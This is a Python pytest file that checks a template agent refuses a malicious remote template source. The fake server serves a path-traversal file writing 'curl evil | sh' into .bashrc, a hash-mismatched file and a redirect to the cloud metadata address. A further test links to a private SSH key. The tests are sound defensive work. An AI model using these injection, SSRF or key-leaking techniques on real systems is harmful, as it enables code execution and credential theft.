"""A remote template source that lies: an endless listing, files that leave the project,
files that are not what their hash says, a redirect elsewhere. The agent reads a source's
answers bounded, checks its files as a publish is checked, and installs nothing it
refused; a symbolic link in a folder being published is refused too."""

from __future__ import annotations

import base64
import hashlib
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from hyac_agent.templates.files import collect_dir
from hyac_common.errors import InvalidTemplate
from tests.templates.test_registry import template
from tests.tenancy.conftest import Platform


def _sha(files_b64: dict[str, str]) -> str:
    listing = {path: hashlib.sha256(base64.b64decode(data)).hexdigest()
               for path, data in sorted(files_b64.items())}
    return hashlib.sha256(json.dumps(listing, sort_keys=True, separators=(",", ":")).encode()).hexdigest()


def _answers() -> dict[str, tuple[int, dict[str, str], bytes]]:
    escaping = template("escaping")
    escaping["../../.bashrc"] = base64.b64encode(b"curl evil | sh").decode()
    swapped = template("swapped")
    announced = _sha(swapped)
    swapped["functions/greet.py"] = base64.b64encode(b"def main(context): return 'not this'").decode()
    honest = template("honest")
    json_type = {"content-type": "application/json"}

    def body(value: object) -> bytes:
        return json.dumps(value).encode()

    return {
        "/v1/templates/public": (200, json_type, b"[" + b'{"name": "x"},' * 400_000 + b"{}]"),
        "/v1/templates/public/escaping": (200, json_type, body({"files_b64": escaping, "sha256": _sha(escaping)})),
        "/v1/templates/public/swapped": (200, json_type, body({"files_b64": swapped, "sha256": announced})),
        "/v1/templates/public/honest": (200, json_type, body({"files_b64": honest, "sha256": _sha(honest)})),
        "/v1/templates/public/moved": (302, {"location": "http://169.254.169.254/latest/meta-data"}, b""),
    }


@pytest.fixture(scope="module")
def liar() -> Iterator[str]:
    answers = _answers()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            status, headers, payload = answers.get(self.path.split("?")[0], (404, {}, b"{}"))
            self.send_response(status)
            for key, value in headers.items():
                self.send_header(key, value)
            self.send_header("content-length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def with_liar(platform: Platform, liar: str) -> Iterator[str]:
    with platform.owner() as client:
        assert client.post("/v1/templates/sources", json={"url": liar}).status_code == 201
    yield liar
    with platform.owner() as client:
        client.delete("/v1/templates/sources", params={"url": liar})


def test_a_listing_past_the_limit_is_reported_not_read(platform: Platform, with_liar: str) -> None:
    with platform.owner() as client:
        answer = client.get("/v1/templates").json()
    assert [gone["source"] for gone in answer["unreachable"]] == [with_liar]
    assert "more than" in answer["unreachable"][0]["reason"]
    assert "kv-counter" in [item["name"] for item in answer["templates"]]  # the rest still listed


@pytest.mark.parametrize(("name", "said"), [
    ("escaping", "'..' path segment"),
    ("swapped", "do not match their hash"),
])
def test_a_remote_template_that_lies_is_refused(platform: Platform, with_liar: str, name: str,
                                                said: str) -> None:
    with platform.owner() as client:
        answer = client.post(f"/v1/templates/{name}/install", json={})
    assert answer.status_code == 400, answer.text
    assert answer.json()["error"]["code"] == "invalid_template"
    assert said in answer.json()["error"]["message"]


def test_a_redirect_is_not_followed_and_an_honest_template_installs(
    platform: Platform, with_liar: str,
) -> None:
    with platform.owner() as client:
        moved = client.post("/v1/templates/moved/install", json={})
        assert moved.status_code == 404, moved.text  # the source answered 302: not taken
        honest = client.post("/v1/templates/honest/install", json={})
    assert honest.status_code == 200, honest.text
    assert honest.json()["source"] == with_liar and "functions/greet.py" in honest.json()["files_b64"]


def test_a_symbolic_link_is_not_published(tmp_path: Path) -> None:
    for path, encoded in template("linked").items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_bytes(base64.b64decode(encoded))
    (tmp_path / "functions" / "keys.py").symlink_to(Path.home() / ".ssh" / "id_ed25519")
    with pytest.raises(InvalidTemplate, match="symbolic link"):
        collect_dir(tmp_path)
